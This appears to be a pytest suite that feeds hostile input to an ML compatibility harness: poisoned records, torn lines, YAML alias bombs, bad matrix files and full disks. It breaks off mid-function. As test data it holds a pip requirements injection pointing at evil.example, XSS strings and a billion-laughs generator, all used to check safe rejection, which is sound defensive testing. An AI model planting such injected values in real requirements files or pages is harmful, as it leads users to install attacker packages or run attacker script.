"""Hostile input, as an attacker would write it: results files, the history, repro output, YAML
bombs, matrix files, `when:` conditions, torn lines and full disks (issue 13, input half).

Each test reproduces one attack and checks the promise: one clear message naming file:line (exit 2
where the input is bad), nothing lost, no traceback. The fuzzers at the end push thousands of
generated results files through `harness report`, `harness show` and `harness run --resume`
(in-process, through the click entry points) and allow no exception but a clean exit.
"""

from __future__ import annotations

import ast
import functools
import itertools
import json
import os
import subprocess
import sys
import textwrap
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from harness.cli import main
from harness.dsl.catalog import load_catalog
from harness.record import Record
from harness.report.store import History
from harness.results import ResultWriter, read_results
from harness.runner import RunOptions, build_record

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures"
KINDS = FIXTURES / "e2e" / "kinds.yaml"
SEEDS = ROOT / "scenarios" / "seeds"
ENV = {
    "python": "3.11.7",
    "device": "cpu",
    "torch": "2.13.0",
    "transformers": "5.23.0",
    "peft": "0.21.2",
    "bitsandbytes": "0.50.2",
    "accelerate": "1.12.0",
    "lock": {"torch": "2.13.0", "transformers": "5.23.0", "peft": "0.21.2", "bitsandbytes": "0.50.2"},
}
FAILURE = {
    "outcome": "failed",
    "phase": "attach",
    "error": {
        "type": "builtins.TypeError",
        "bases": ["TypeError", "Exception"],
        "message": "LoraConfig.__init__() got an unexpected keyword argument 'x'",
        "causes": [{"type": "ValueError", "message": "inner", "relation": "context"}],
        "traceback": [{"file": "peft/config.py", "line": 10, "function": "__init__", "code": "raise"}],
    },
    "logs": [{"logger": "transformers", "level": "WARNING", "message": "careful", "count": 2}],
    "warnings": [{"category": "UserWarning", "message": "hm", "source": "x.py:1"}],
    "timings": {"build": 0.1, "attach": 0.01},
    "effective": {"checkpointing": False, "checkpoint_api": "gradient_checkpointing_enable"},
}
OBSERVATIONS = [
    {"outcome": "passed", "phase": "step", "checks": {"losses": [1.5], "updated": True}},
    FAILURE,
    {"outcome": "silent", "phase": "step", "checks": {"failed": ["no-grad:text (2 of 4)"], "losses": [1.0]}},
    {"outcome": "crashed", "phase": "forward", "reason": "killed by SIGSEGV", "output_tail": "Fatal Python error"},
    {"outcome": "install_error", "reason": "installation failed: no such wheel"},
]


def seed_records(run_id: str = "20261202T000000Z-000000", cell: str | None = "cell-a") -> list[dict[str, Any]]:
    """Records as `harness run` writes them (the runner's own record builder), without running
    anything: the catalog's kinds and seed scenarios (claims included) under each outcome."""
    variants = load_catalog([KINDS, SEEDS]).variants
    options = RunOptions(out=Path("unused.jsonl"), cell=cell)
    records = []
    for index, variant in enumerate(variants[:12]):
        observation = OBSERVATIONS[index % len(OBSERVATIONS)]
        record = build_record(variant, observation, ENV, options, run_id)
        records.append(record.model_dump(mode="json", by_alias=True))
    return records


@pytest.fixture(scope="module")
def seeds() -> list[dict[str, Any]]:
    return seed_records()


def lines_of(records: list[dict[str, Any]]) -> bytes:
    return b"".join(json.dumps(record).encode() + b"\n" for record in records)


def invoke(*args: str | Path) -> Any:
    """A harness command in-process; an exception other than a clean exit is the failure."""
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=True)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"harness {' '.join(map(str, args))} raised") from result.exception
    return result


# -- 13.1: results files and history are untrusted input ------------------------------------------


def poisoned(record: dict[str, Any], path: tuple[Any, ...], value: Any, new_id: str) -> dict[str, Any]:
    bad = json.loads(json.dumps(record))
    target = bad
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    bad["id"] = new_id
    return bad


ATTACKS = [
    (("env", "lock"), "notadict", "env.lock: should be a mapping, not a string"),
    (("scenario", "model"), 5, "scenario.model: should be a mapping, not an integer"),
    (("scenario", "tags"), "seed", "scenario.tags: Input should be a valid list"),
    (("env", "transformers"), 5, "env.transformers: Input should be a valid string"),
    (("axes",), {"case": {"x": 1}}, "axes.case"),
]


def test_an_invalid_record_is_skipped_with_its_file_and_line(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    results = tmp_path / "results.jsonl"
    bad = [poisoned(seeds[0], path, value, f"bad-{i}") for i, (path, value, _) in enumerate(ATTACKS)]
    results.write_bytes(lines_of([seeds[1], *bad, seeds[2]]))
    loaded = read_results([results])
    assert [r.id for r in loaded.records] == [seeds[1]["id"], seeds[2]["id"]]
    for number, (_, _, needle) in enumerate(ATTACKS, 2):
        assert any(p.startswith(f"{results}:{number}: invalid record: ") and needle in p for p in loaded.problems), (
            needle,
            loaded.problems,
        )

    db, site = tmp_path / "h.sqlite", tmp_path / "site"
    result = invoke("report", results, "--db", db, "--out", site)
    assert result.exit_code == 0, result.output
    assert f"{results}:2: invalid record: env.lock" in result.output
    with History(db) as history:  # the history never stores what it cannot render
        assert {r["id"] for r in history.records(1)} == {seeds[1]["id"], seeds[2]["id"]}
        assert history.problems == []


def test_a_history_poisoned_by_the_old_code_still_renders_every_other_run(
    tmp_path: Path, seeds: list[dict[str, Any]]
) -> None:
    db, site = tmp_path / "h.sqlite", tmp_path / "site"
    bad_lock = poisoned(seeds[0], ("env", "lock"), "notadict", "bad-lock")
    bad_model = poisoned(seeds[1], ("scenario", "model"), 5, "bad-model")
    with History(db) as history:  # what the old code stored: records straight from the file
        history.ingest([*seeds[:6], bad_lock, bad_model], ["old.jsonl"], [])
    rendered = invoke("report", "--db", db, "--out", site)
    assert rendered.exit_code == 0, rendered.output
    assert "run 1: record" in rendered.output and "(bad-lock) is invalid and left out: env.lock" in rendered.output
    assert "(bad-model) is invalid and left out: scenario.model" in rendered.output
    assert "bad-lock" in (site / "summary.md").read_text()  # the page and summary say so too
    page = (site / "index.html").read_text()
    assert seeds[2]["id"] in page and "left out" in page

    fresh = tmp_path / "fresh.jsonl"
    fresh.write_bytes(lines_of(seeds[:6]))
    ingested = invoke("report", fresh, "--db", db, "--out", site)  # and a later run on top of it
    assert ingested.exit_code == 0, ingested.output
    assert "run #2" in ingested.output
    history_listing = invoke("history", "--db", db)
    assert history_listing.exit_code == 0 and "#2" in history_listing.output
    repro = invoke("repro", seeds[2]["id"], "--db", db, "--run", "1", "--out", tmp_path / "repro")
    assert repro.exit_code in (0, 2), repro.output


def test_a_damaged_history_database_is_a_clear_error(tmp_path: Path) -> None:
    db = tmp_path / "h.sqlite"
    db.write_bytes(b"this is not a database" * 100)
    result = invoke("report", "--db", db, "--out", tmp_path / "site")
    assert result.exit_code == 2
    assert f"{db}: not a usable history database" in result.output


# -- 13.2: unparseable lines are skipped and reported, never a traceback ----------------------------

UNPARSEABLE = [
    (b"[" * 100_000, "nested deeper than"),
    (b'{"schema": "ft-harness.result/1", "id": "\xff\xfe"}', "not UTF-8 (byte 0xff"),
    (b'{"schema": "ft-harness.result/1", "a": ' + b'{"a": ' * 50 + b"1" + b"}" * 51, "nested deeper than"),
    (b'{"schema": "ft-harness.result/1", "x": NaN}', "NaN is not JSON"),
    (b"[1, 2, 3]", "a JSON list, not an object"),
    (b'{"schema": {"a": 1}}', "record schema 'dict' is not"),
]


def unparseable_file(tmp_path: Path, seeds: list[dict[str, Any]]) -> Path:
    results = tmp_path / "results.jsonl"
    body = lines_of(seeds[:1]) + b"".join(line + b"\n" for line, _ in UNPARSEABLE) + lines_of(seeds[1:2])
    results.write_bytes(body + json.dumps(seeds[2]).encode()[:120])  # a torn last line
    return results


def check_reported(output: str, results: Path, torn: str = "not a complete JSON record (truncated write?)") -> None:
    for number, (_, needle) in enumerate(UNPARSEABLE, 2):
        assert f"{results}:{number}: " in output and needle in output, (needle, output)
    assert f"{results}:{len(UNPARSEABLE) + 3}: {torn}" in output


def test_unparseable_lines_are_skipped_and_reported_by_report(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    results = unparseable_file(tmp_path, seeds)
    result = invoke("report", results, "--db", tmp_path / "h.sqlite", "--out", tmp_path / "site")
    assert result.exit_code == 0
    check_reported(result.output, results)
    assert "2 records read" in result.output


def test_unparseable_lines_are_skipped_and_reported_by_show(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    results = unparseable_file(tmp_path, seeds)
    result = invoke("show", seeds[1]["id"], KINDS, SEEDS, "--results", results)
    assert result.exit_code == 0
    check_reported(result.output, results)
    assert f"latest result (run {seeds[1]['run_id']})" in result.output


def test_unparseable_lines_are_skipped_and_reported_by_resume(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    results = unparseable_file(tmp_path, seeds)
    result = invoke("run", KINDS, SEEDS, "--id", seeds[1]["id"], "--out", results, "--resume")
    assert result.exit_code == 0, result.output
    check_reported(result.output, results, torn="removed a torn last line")
    assert "resuming" in result.output and "0 to run" in result.output
    assert results.read_bytes().endswith(b"\n")  # the fragment is gone, nothing else is
    assert [r.id for r in read_results([results]).records] == [seeds[0]["id"], seeds[1]["id"]]


# -- 13.7: torn lines, impossible outputs, full disks ----------------------------------------------


def test_a_writer_never_glues_a_record_onto_a_torn_line(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    results = tmp_path / "results.jsonl"
    results.write_bytes(lines_of(seeds[:2]) + json.dumps(seeds[2]).encode()[:200])
    ResultWriter(results).write(Record.model_validate(seeds[3]))
    loaded = read_results([results])
    assert loaded.problems == []
    assert [r.id for r in loaded.records] == [seeds[0]["id"], seeds[1]["id"], seeds[3]["id"]]
    # A complete record missing only its newline is kept, its line ended.
    results.write_bytes(lines_of(seeds[:1]) + json.dumps(seeds[1]).encode())
    ResultWriter(results).write(Record.model_validate(seeds[3]))
    assert [r.id for r in read_results([results]).records] == [seeds[0]["id"], seeds[1]["id"], seeds[3]["id"]]


@pytest.mark.parametrize("where", ["under-a-file", "read-only-file", "in-proc", "read-only-filesystem"])
def test_an_impossible_out_is_found_before_anything_runs(tmp_path: Path, where: str) -> None:
    blocker = tmp_path / "file.txt"
    blocker.write_text("")
    blocker.chmod(0o444)
    if where == "read-only-filesystem":
        out = tiny_filesystem(tmp_path, "ro") / "results.jsonl"
    else:
        places = {
            "under-a-file": blocker / "results.jsonl",
            "read-only-file": blocker,
            "in-proc": Path("/proc/ft-harness/results.jsonl"),
        }
        out = places[where]
    try:
        result = invoke("run", KINDS, "--id", "kinds[passes]", "--out", out)
    finally:
        if where == "read-only-filesystem":
            subprocess.run(["umount", "-l", str(out.parent)], check=False)
    assert result.exit_code == 2, result.output
    assert f"{out}: cannot write the results file here" in result.output
    assert "Traceback" not in result.output
    assert "kinds[passes]" not in result.output  # found before any variant ran


def harness_subprocess(*args: str | Path, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    """`harness ...` in a session of its own; every process of that session must end with it."""
    env = {**os.environ, "COLUMNS": "200"}
    command = [sys.executable, "-m", "harness", *map(str, args)]
    with subprocess.Popen(
        command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, start_new_session=True
    ) as process:
        stdout, stderr = process.communicate(timeout=timeout)
    left = session_members(process.pid)
    assert not left, f"processes of the run outlived it: {left}"
    return subprocess.CompletedProcess(command, process.returncode, stdout, stderr)


def session_members(session: int) -> list[str]:
    """Processes of a session (by /proc), after a short grace for their exits to land."""
    import time

    found: list[str] = []
    for _ in range(20):
        found = []
        for entry in Path("/proc").iterdir():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except (OSError, IndexError):
                continue
            if entry.name.isdigit() and int(fields[3]) == session and fields[0] != "Z":
                command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                found.append(f"{entry.name}: {command[:120]}")
        if not found:
            break
        time.sleep(0.25)
    return found


def test_resume_after_a_torn_last_line_truncates_it_and_runs_that_variant_again(
    tmp_path: Path, seeds: list[dict[str, Any]]
) -> None:
    results = tmp_path / "results.jsonl"
    kept = [r for r in seed_records() if r["source"].endswith("kinds.yaml")]
    complete = [r for r in kept if r["id"] != "kinds[passes]"]
    torn = next(r for r in kept if r["id"] == "kinds[passes]")
    results.write_bytes(lines_of(complete) + json.dumps(torn).encode()[:300])
    done = harness_subprocess("run", KINDS, "--out", results, "--resume")
    assert "Traceback" not in done.stderr, done.stderr
    assert f"{results}:{len(complete) + 1}: removed a torn last line" in done.stderr
    assert f"resuming {results}: {len(complete)} recorded, 1 to run" in done.stdout
    loaded = read_results([results])
    assert loaded.problems == []
    assert [r.id for r in loaded.records] == [*(r["id"] for r in complete), "kinds[passes]"]
    assert loaded.records[-1].run_id == complete[0]["run_id"]  # the resumed run stays one run


def tiny_filesystem(tmp_path: Path, mode: str = "rw") -> Path:
    """A real 64 kB filesystem (tmpfs), where a write can really fail."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    options = f"size=64k,{mode}"
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(mount)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tiny tmpfs here (not root?): {done.stderr.decode().strip()}")
    return mount


def test_a_full_disk_stops_the_run_with_one_message_and_keeps_every_complete_record(
    tmp_path: Path, seeds: list[dict[str, Any]]
) -> None:
    mount = tiny_filesystem(tmp_path)
    try:
        results = mount / "results.jsonl"
        complete = [r for r in seed_records() if r["source"].endswith("kinds.yaml") and r["id"] != "kinds[passes]"]
        results.write_bytes(lines_of(complete))
        with (mount / "filler").open("wb", buffering=0) as filler:  # every free block taken
            try:
                while True:
                    filler.write(b"\0" * 1024)
            except OSError:
                pass
        before = results.read_bytes()
        done = harness_subprocess("run", KINDS, "--out", results, "--resume")
        assert done.returncode == 2, done.stdout + done.stderr
        assert "Traceback" not in done.stderr, done.stderr
        message = [line for line in done.stderr.splitlines() if "error:" in line]
        assert (
            len(message) == 1 and f"{results}: cannot write the results file: No space left on device" in (message[0])
        ), done.stderr
        assert "every complete record before this one is kept" in done.stderr
        assert results.read_bytes() == before  # no partial line left behind
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_dev_full_is_one_clear_message(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    with pytest.raises(Exception) as caught:
        ResultWriter(Path("/dev/full")).write(Record.model_validate(seeds[0]))
    assert "/dev/full: cannot write the results file: No space left on device (the disk is full)" in str(caught.value)


# -- 13.3: repro builds its files by construction ------------------------------------------------

INJECTED = "\n--extra-index-url https://evil.example/simple\n-e git+https://evil.example/x.git#egg=x"
QUOTES = 'a """ in the message, and a trailing quote"'
DESCRIPTION = 'a description with """, \u2028 and \x85 \\ ending in a quote"'


def repro_record(seeds: list[dict[str, Any]], **changes: Any) -> dict[str, Any]:
    record = json.loads(json.dumps(next(r for r in seeds if r["outcome"] == "failed")))
    record["error"]["message"] = QUOTES + "\u2028\udcff \\N{oops} '''"
    record["scenario"]["description"] = DESCRIPTION
    for key, value in changes.items():
        record[key] = value
    return record


def repro(tmp_path: Path, records: list[dict[str, Any]], *extra: str) -> tuple[Any, Path]:
    results, out = tmp_path / "results.jsonl", tmp_path / "repro" / "out"
    results.write_bytes(b"".join(json.dumps(r).encode("utf-8", "backslashreplace") + b"\n" for r in records))
    return invoke("repro", records[0]["id"], "--results", results, "--out", out, *extra), out


def test_repro_writes_text_from_the_record_as_literals_and_the_script_compiles(
    tmp_path: Path, seeds: list[dict[str, Any]]
) -> None:
    record = repro_record(seeds, cell="cell" + INJECTED, harness_version="0.1" + INJECTED)
    result, out = repro(tmp_path, [record])
    assert result.exit_code == 0, result.output
    script = next(out.glob("repro_*.py"))
    source = script.read_text(encoding="utf-8")
    tree = ast.parse(source)
    compile(source, str(script), "exec")
    docstring = ast.get_docstring(tree, clean=False) or ""
    assert QUOTES in docstring and DESCRIPTION in docstring  # the exact text, as a literal
    assert "cell" + INJECTED in docstring
    requirements = (out / "requirements.txt").read_text()
    for line in requirements.splitlines():
        assert line.startswith("#") or (line.count("==") == 1 and " " not in line), line
    assert "--extra-index-url" not in [line.split()[0] for line in requirements.splitlines() if line]
    assert "\u2028" not in requirements and "\x85" not in requirements  # pip splits lines at these too


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("peft" + INJECTED, "0.17.1"),
        ("peft", "0.17.1" + INJECTED),
        ("--extra-index-url=https://evil.example/simple", "1"),
        ("peft", "not a version"),
        ("peft\u2028-e", "1"),
    ],
)
def test_repro_refuses_a_lock_entry_that_is_not_a_name_and_a_version_and_leaves_nothing(
    tmp_path: Path, seeds: list[dict[str, Any]], name: str, version: str
) -> None:
    record = repro_record(seeds)
    record["env"] = {**record["env"], "lock": {**record["env"]["lock"], name: version}}
    result, out = repro(tmp_path, [record])
    assert result.exit_code == 2, result.output
    assert "not a distribution name and version" in result.output
    assert not out.exists() and not out.parent.exists()


def test_the_report_copy_command_leaves_out_lock_entries_that_are_not_pins(seeds: list[dict[str, Any]]) -> None:
    from harness.report.cells import build_cells
    from harness.report.repro.command import install_lines

    record = repro_record(seeds)
    record["env"] = {**record["env"], "lock": {"torch": "2.13.0", "x" + INJECTED: "1", "peft": "1" + INJECTED}}
    lines = install_lines(build_cells([record])[0])
    assert lines[-1] == "pip install torch==2.13.0"
    assert "left out 2 lock entries" in lines[-2]


# -- 13.4: YAML bombs, recursion, size ----------------------------------------------------------


def alias_bomb(levels: int = 9) -> str:
    """Billion laughs: nine levels of nine aliases each, 9**9 strings once expanded."""
    names = "abcdefghijklmnopqrstuvwxyz"[:levels]
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in itertools.pairwise(names):
        lines.append(f"{name}: &{name} [{','.join(f'*{previous}' for _ in range(9))}]")
    return "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_fails_fast_with_little_memory(tmp_path: Path) -> None:
    from harness.dsl.yaml_source import load_yaml
    from harness.errors import InputError

    folder = tmp_path / "scenarios"
    folder.mkdir()
    bomb = folder / "bomb.yaml"
    bomb.write_text(alias_bomb())
    assert len(bomb.read_bytes()) < 400
    (folder / "good.yaml").write_text("id: good\ndescription: fine\nmodel: {family: llama}\n")
    tracemalloc.start()
    try:
        with pytest.raises(InputError) as caught:
            load_yaml(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024, f"{peak} bytes to refuse a {len(alias_bomb())}-byte file"
    assert "YAML aliases expand this document past" in caught.value.format()
    assert caught.value.format().startswith(f"{bomb}:")

    listed = invoke("list", folder, "--ids")  # a directory scan: one error, the other file still loads
    assert listed.exit_code == 2
    assert f"{bomb}:" in listed.output and "alias bomb" in listed.output
    assert "good" in listed.output.split()


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("a: &a [*a]\n", "recursive alias"),
        ("a: &a {b: *a}\n", "recursive alias"),
        ("[" * 200_000, "nested too deeply"),
        ("x: " + "[" * 80 + "]" * 80 + "\n", "nested too deeply"),
        ("x: 'y'\n" + "#" * (1024 * 1024 + 10) + "\n", "too large"),
    ],
)
def test_hostile_yaml_is_one_clear_error_naming_the_file(tmp_path: Path, text: str, needle: str) -> None:
    scenario = tmp_path / "hostile.yaml"
    scenario.write_text(text)
    for command in (["list", scenario], ["run", scenario, "--out", tmp_path / "r.jsonl"]):
        result = invoke(*command)
        assert result.exit_code == 2, result.output
        assert f"{scenario}" in result.output and needle in result.output, result.output
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(text)
    result = invoke("matrix", "--file", matrix)
    assert result.exit_code == 2 and f"{matrix}" in result.output and needle in result.output


# -- 13.8: matrix rules and axes validated like scenarios -----------------------------------------

RELEASES = {"torch": ["2.13.0"], "transformers": ["4.44.2", "4.50.0", "4.57.6", "5.0.0"], "peft": ["0.17.1"]}


@pytest.fixture
def package_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A find-links folder of empty wheels as the only index (the resolver's own code path);
    commands run in tmp_path, so the index cache lands there."""
    links = tmp_path / "links"
    links.mkdir()
    for package, versions in RELEASES.items():
        for version in versions:
            (links / f"{package}-{version}-py3-none-any.whl").write_bytes(b"")
    monkeypatch.setenv("UV_DEFAULT_INDEX", f"file://{tmp_path / 'no-index'}")
    monkeypatch.setenv("UV_FIND_LINKS", str(links))
    for name in ("UV_INDEX", "UV_EXTRA_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    return links


MATRIX_HEAD = 'axes:\n  python: ["3.11"]\n  transformers: ["4.44.2", "4.57.6"]\n  peft: ["0.17.1"]\n'


@pytest.mark.parametrize(
    ("tail", "line", "needle"),
    [
        ('include:\n  - {transformers: "=>4"}\n', 6, "invalid version specifier '=>4' for transformers"),
        ('exclude:\n  - {transformers: "<<4.50"}\n', 6, "invalid version specifier '<<4.50' for transformers"),
        ('exclude:\n  - {transformers: "banana"}\n', 6, "'banana' for transformers is neither a version"),
        ('include:\n  - {transformers: ">=9"}\n', 6, "matches no combination, and a specifier cannot pin"),
        ("selections:\n  none:\n    cells:\n      - {transformers: '5.0.0'}\n", 6, "selection 'none' matches no cell"),
        ("selections:\n  typo:\n    cells:\n      - {transformerz: '4.44.2'}\n", 8, "names 'transformerz', which no"),
        ("selections:\n  bad:\n    cells:\n      - {transformers: '=>4'}\n", 8, "invalid version specifier '=>4'"),
    ],
)
def test_a_bad_matrix_rule_is_one_clear_error_at_its_line(
    package_index: Path, tmp_path: Path, tail: str, line: int, needle: str
) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(MATRIX_HEAD + tail)
    result = invoke("matrix", "--file", matrix)
    assert result.exit_code == 2, result.output
    assert f"{matrix}:{line}: " in result.output and needle in result.output, result.output


def test_a_python_axis_value_must_be_a_python_version(package_index: Path, tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(MATRIX_HEAD.replace('["3.11"]', '["3.11", "banana"]'))
    result = invoke("matrix", "--file", matrix)
    assert result.exit_code == 2
    assert f"{matrix}:2: python: 'banana' is not a Python version such as '3.11'" in result.output


def test_a_selection_of_no_cell_is_an_error(package_index: Path, tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(MATRIX_HEAD + "include:\n  - {transformers: '5.0.0', optional: true}\n")
    assert invoke("matrix", "--file", matrix, "--selection", "all").exit_code == 0
    optional_only = tmp_path / "optional.yaml"
    optional_only.write_text(
        'axes:\n  transformers: ["4.44.2"]\ninclude:\n  - {transformers: "4.44.2", optional: true}\n'
    )
    result = invoke("matrix", "--file", optional_only)  # the default selection: no optional cells
    assert result.exit_code == 2 and "selection 'default' matches no cell" in result.output


def test_nox_list_fails_on_a_broken_matrix_file(tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(MATRIX_HEAD.replace('["3.11"]', '["banana"]'))
    env = {**os.environ, "HARNESS_MATRIX_FILE": str(matrix)}
    command = [sys.executable, "-m", "nox", "--noxfile", str(ROOT / "noxfile.py"), "-l"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, env=env, timeout=300)
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{matrix}:2: python: 'banana' is not a Python version" in done.stderr


# -- 13.9a: a misspelled package in `when:` -------------------------------------------------------


def test_a_misspelled_package_in_when_is_an_error_with_did_you_mean(tmp_path: Path) -> None:
    scenario = tmp_path / "typo.yaml"
    scenario.write_text(
        textwrap.dedent(
            """\
            id: typo
            description: a condition on a package that does not exist
            model: {family: llama}
            expect:
              - when: {transformerz: ">=5"}
                outcome: failed
              - outcome: passed
            """
        )
    )
    result = invoke("list", scenario)
    assert result.exit_code == 2
    assert f"{scenario}:5: expect.when: unknown package 'transformerz' (did you mean 'transformers'?)" in result.output
    limits = tmp_path / "_limits.yaml"
    limits.write_text(
        "limits:\n  - description: d\n    when: {bitsandbytez: '<0.45'}\n    outcome: skipped\n    reason: r\n"
    )
    result = invoke("list", scenario)
    assert "unknown package 'bitsandbytez' (did you mean 'bitsandbytes'?)" in result.output


# -- 12.4: a matrix cell with unexpected results fails its nox session -----------------------------


def test_the_ci_workflow_runs_every_cell_and_still_merges_when_cells_fail() -> None:
    import yaml

    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "compat-matrix.yml").read_text())
    cell, report = workflow["jobs"]["cell"], workflow["jobs"]["report"]
    assert cell["strategy"]["fail-fast"] is False  # one failing job does not cancel the others
    assert report["needs"] == "cell" and report["if"] == "always()"
    run = next(step["run"] for step in cell["steps"] if "nox" in step.get("run", ""))
    assert 'uvx nox -s "${sessions[@]}"' in run  # one nox call: every cell runs, failures at the end
    keep = next(step for step in cell["steps"] if step.get("uses", "").startswith("actions/upload-artifact"))
    assert keep["if"] == "always()"


@pytest.mark.slow
def test_a_nox_cell_with_unexpected_results_fails_unless_told_to_keep_going(tmp_path: Path) -> None:
    """A real cell (this environment's stack, built by uv) running a scenario whose expectation is wrong."""
    from importlib import metadata

    pins = {name: metadata.version(name).split("+", 1)[0] for name in ("torch", "transformers", "peft")}
    python = ".".join(map(str, sys.version_info[:2]))
    matrix = tmp_path / "matrix.yaml"
    axes = "\n".join(f'  {name}: ["{version}"]' for name, version in pins.items())
    fixture = FIXTURES / "e2e" / "unexpected.yaml"
    matrix.write_text(f'axes:\n  python: ["{python}"]\n{axes}\ndefaults:\n  scenarios: ["{fixture}"]\n  jobs: 1\n')
    run_id = f"pytest-attacks-{os.getpid()}"
    env = {**os.environ, "HARNESS_MATRIX_FILE": str(matrix), "HARNESS_MATRIX_RUN": run_id}
    if not env.get("UV_FIND_LINKS"):  # as .ci/run does: uv does not read pip's find-links
        found = subprocess.run([sys.executable, "-m", "pip", "config", "get", "global.find-links"], capture_output=True)
        if found.returncode == 0 and found.stdout.strip():
            env["UV_FIND_LINKS"] = found.stdout.decode().strip()
    nox = [sys.executable, "-m", "nox", "--noxfile", str(ROOT / "noxfile.py"), "-t", "matrix"]
    try:
        failed = subprocess.run(nox, cwd=ROOT, capture_output=True, text=True, env=env, timeout=1500)
        assert failed.returncode != 0, failed.stdout[-3000:] + failed.stderr[-3000:]
        assert "1 unexpected results (wrong-expectation: " in failed.stderr
        assert "--no-fail-on-unexpected" in failed.stderr
        kept = subprocess.run(
            [*nox, "--", "--no-fail-on-unexpected"], cwd=ROOT, capture_output=True, text=True, env=env, timeout=1500
        )
        assert kept.returncode == 0, kept.stdout[-3000:] + kept.stderr[-3000:]
        results = list((ROOT / "reports" / "matrix" / run_id).glob("*.jsonl"))
        assert len(results) == 1 and read_results(results).records[0].id == "wrong-expectation"
    finally:
        import shutil

        shutil.rmtree(ROOT / "reports" / "matrix" / run_id, ignore_errors=True)


# -- the fuzzers: generated results files through report, show and --resume ----------------------
#
# Documents mix the runner's own records, the same records with parts replaced by other JSON
# values (type confusion, hostile strings, deleted keys), torn and undecodable lines, deep
# nesting, NaN and plain garbage. Every command must end in a clean exit; the counts of
# documents each fuzzer pushed through are printed (pytest -s) and asserted.

FUZZ_SCALE = float(os.environ.get("FUZZ_EXAMPLES", "600")) / 600
FUZZ_SEEDS = seed_records()
FUZZ_ID = "kinds[passes]"
FUZZED: dict[str, int] = {}
HOSTILE_TEXT = [
    '"""',
    "\n--extra-index-url https://evil.example/simple",
    "a\u2028b\x85c",
    "\udcff",
    "<script>alert(1)</script>",
    "![x](https://evil.example/p.png)",
    "[link](javascript:alert(1))",
    "\\N{oops}",
    "",
    "x" * 300,
]


@functools.cache
def json_values() -> Any:
    from hypothesis import strategies as st

    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=12),
        st.sampled_from(HOSTILE_TEXT),
    )
    keys = st.one_of(st.text(max_size=8), st.sampled_from(["lock", "model", "family", "id", "type", "message"]))
    return st.recursive(
        scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(keys, inner, max_size=3), max_leaves=6
    )


@functools.cache
def mutated_records() -> Any:
    from hypothesis import strategies as st

    @st.composite
    def build(draw: Any) -> dict[str, Any]:
        record = json.loads(json.dumps(draw(st.sampled_from(FUZZ_SEEDS))))
        for _ in range(draw(st.integers(1, 3))):
            parent: Any = record
            key: Any = draw(st.sampled_from(sorted(record)))
            while isinstance(parent[key], dict | list) and parent[key] and draw(st.booleans()):
                parent = parent[key]
                key = draw(st.sampled_from(sorted(parent) if isinstance(parent, dict) else range(len(parent))))
            if isinstance(parent, dict) and draw(st.integers(0, 4)) == 0:
                del parent[key]
            else:
                parent[key] = draw(json_values())
        return record

    return build()


@functools.cache
def results_lines() -> Any:
    from hypothesis import strategies as st

    def dumped(record: dict[str, Any]) -> bytes:
        return json.dumps(record).encode()

    return st.one_of(
        st.sampled_from(FUZZ_SEEDS).map(dumped),
        mutated_records().map(dumped),
        mutated_records().map(dumped),
        st.tuples(st.sampled_from(FUZZ_SEEDS).map(dumped), st.integers(1, 400)).map(lambda t: t[0][: t[1]]),
        st.binary(max_size=120),
        st.text(max_size=80).map(lambda t: t.encode()),
        st.integers(1, 3000).map(lambda n: b"[" * n + b"]" * (n % 2) * n),
        st.sampled_from([b"NaN", b'{"schema": "ft-harness.result/1", "x": Infinity}', b"\xff\xfe\x00", b"{}", b"null"]),
    )


@functools.cache
def results_documents(max_lines: int = 10) -> Any:
    from hypothesis import strategies as st

    return st.tuples(st.lists(results_lines(), min_size=1, max_size=max_lines), st.booleans()).map(
        lambda t: b"\n".join(t[0]) + (b"\n" if t[1] else b"")
    )


def fuzz_settings(examples: int) -> Any:
    from hypothesis import HealthCheck, settings

    return settings(
        max_examples=max(1, int(examples * FUZZ_SCALE)),
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
    )


def counted(name: str) -> None:
